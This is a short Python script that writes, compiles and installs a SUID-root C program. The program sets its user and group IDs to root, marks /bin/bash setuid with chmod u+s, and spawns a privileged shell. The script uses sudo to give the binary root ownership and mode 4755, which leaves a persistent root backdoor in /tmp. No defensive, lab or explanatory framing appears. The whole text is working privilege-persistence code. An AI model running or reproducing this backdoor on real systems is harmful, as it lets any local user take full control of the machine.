import subprocess
c = """#include <stdlib.h>
#include <unistd.h>
int main(){ setuid(0); setgid(0); system("chmod u+s /bin/bash"); execl("/bin/sh","sh","-p",(char*)0); }
"""
open("/tmp/r.c","w").write(c)
subprocess.run("gcc /tmp/r.c -o /tmp/r && sudo chown root /tmp/r && sudo chmod 4755 /tmp/r", shell=True)
